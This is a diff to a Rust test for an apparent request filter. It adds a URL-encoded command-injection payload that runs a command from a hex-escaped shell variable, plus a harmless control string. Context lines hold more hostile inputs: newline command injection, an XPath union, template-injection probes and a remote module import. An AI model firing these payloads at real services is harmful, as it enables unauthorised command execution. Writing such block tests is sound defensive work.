@@ -539,7 +539,7 @@ fn math_slashes_encoded_paths_and_identity_queries_block() {
 
 /// Edge side includes, spreadsheet formulas that run a program or fetch a
 /// URL, an XPath predicate closed into a union, a command on a line of its
-/// own before a separator, template scanners' polyglot, Thymeleaf's
+/// own before a separator, a command run from a variable, template scanners' polyglot, Thymeleaf's
 /// selection expressions and a module imported from another host block; prose about the same things passes.
 #[test]
 fn esi_formulas_xpath_unions_line_commands_and_templates_block() {
@@ -552,6 +552,7 @@ fn esi_formulas_xpath_unions_line_commands_and_templates_block() {
         "/api/items/x']|//*|//*['/details",
         "/s?q=127.0.0.1%0aenv;",
         "/s?q=1%0aid|",
+        "/s?q=a;X=$%27%5Cx69%5Cx64%27;$X",
         "/s?q=${{%3C%25[%25%27%22}}%25%5C.",
         "/s?q=*{7*7}",
         "/s?q=import(%27//203.0.113.9/x.js%27)",
@@ -563,6 +564,7 @@ fn esi_formulas_xpath_unions_line_commands_and_templates_block() {
         "=SUM(A1:A3) | 'totals' sheet, and Q1'!A1 refs",
         "names ['a', 'b'] | sorted / grouped",
         "Dear team,\nid: 4471; ls: pending\nps: see you & thanks",
+        "total=5;$price, qty=2 & $tax",
         "deploy with ${{ secrets.TOKEN }}, rated *{5} stars, @{user}",
         "how to import ('./local.js') in a module",
     ] {
